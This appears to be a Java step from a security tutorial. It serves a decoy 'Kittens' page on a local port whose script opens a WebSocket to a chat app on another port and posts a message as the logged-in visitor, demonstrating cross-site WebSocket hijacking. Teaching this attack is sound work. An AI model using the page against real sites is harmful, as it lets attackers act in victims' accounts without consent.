package tutorial.steps;

import io.undertow.Undertow;

/** Another site, on another port, with a page that chats in the name of its visitor. */
final class Attacker {
    private static final String PAGE = """
            <!doctype html>
            <html lang="en">
            <meta charset="utf-8">
            <title>Kittens</title>
            <h1>Kittens</h1>
            <p id="state">While you look at them, this page tries to get in.</p>
            <div id="log"></div>
            <script>
              const socket = new WebSocket("ws://localhost:%s/chat");
              socket.onopen = () => {
                state.textContent = "It is in, as you.";
                socket.send("I love kittens more than all of you!");
              };
              socket.onclose = () => { state.textContent = "It is not in."; };
              socket.onmessage = (message) => {
                const line = document.createElement("p");
                line.textContent = message.data;
                log.append(line);
              };
            </script>
            """;

    public static void main(String[] args) {
        int port = Integer.getInteger("port", 8081);
        start(port, Integer.getInteger("victim", 8080));
        System.out.println("Log in to the chat, then open http://localhost:" + port + "/ in the same browser.");
    }

    /** Serves the page that connects to the chat at the port of the victim. */
    static Undertow start(int port, int victim) {
        Undertow server = Undertow.builder()
                .addHttpListener(port, "localhost")
                .setHandler(exchange -> Step1.show(PAGE.formatted(victim), exchange))
                .build();
        server.start();
        return server;
    }
}
